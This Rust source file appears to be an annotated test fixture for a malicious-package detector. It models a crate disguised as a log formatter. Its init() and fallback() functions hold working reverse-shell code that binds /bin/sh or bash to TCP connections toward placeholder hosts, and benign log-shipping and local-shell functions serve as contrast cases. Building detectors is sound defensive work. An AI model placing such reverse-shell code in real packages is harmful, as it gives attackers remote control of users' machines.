//! "update-helper": a crate published to look like a log formatter. Its
//! `init()` opens a reverse shell; modelled on malicious packages removed from
//! public registries.

use std::io;
use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};
use std::thread;

const C2: &str = "203.0.113.77:4444";

pub fn init() {
    thread::spawn(|| {
        let _ = phone_home();
    });
}

fn phone_home() -> io::Result<()> {
    let stream = TcpStream::connect(C2)?;
    let fd = stream.as_raw_fd();
    Command::new("/bin/sh")
        .arg("-i")
        .stdin(unsafe { Stdio::from_raw_fd(fd) }) //~ debug-entry/reverse-shell
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .stderr(unsafe { Stdio::from_raw_fd(fd) })
        .spawn()?
        .wait()?;
    Ok(())
}

pub fn fallback() -> io::Result<()> {
    let mut stream = TcpStream::connect(("198.51.100.23", 8443))?;
    let mut child = Command::new("bash").arg("-i").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    let mut shell_in = child.stdin.take().expect("piped");
    let mut shell_out = child.stdout.take().expect("piped");
    let mut upstream = stream.try_clone()?;
    thread::spawn(move || io::copy(&mut shell_out, &mut upstream)); //~ debug-entry/reverse-shell
    io::copy(&mut stream, &mut shell_in)?; //~ debug-entry/reverse-shell
    Ok(())
}

/// An honest log shipper: sends lines to a collector, never runs anything.
pub fn ship_logs(lines: &[String]) -> io::Result<()> {
    use std::io::Write;
    let mut stream = TcpStream::connect("logs.internal.example:5140")?;
    for line in lines {
        writeln!(stream, "{line}")?;
    }
    Ok(())
}

/// Runs a local shell with inherited stdio (a terminal emulator does this).
pub fn local_shell() -> io::Result<()> {
    Command::new("/bin/sh").stdin(Stdio::inherit()).stdout(Stdio::inherit()).status()?;
    Ok(())
}

/// Copies a download to disk; a copy that involves no shell.
pub fn mirror(addr: &str, out: &mut std::fs::File) -> io::Result<u64> {
    let mut stream = TcpStream::connect(addr)?;
    io::copy(&mut stream, out)
}
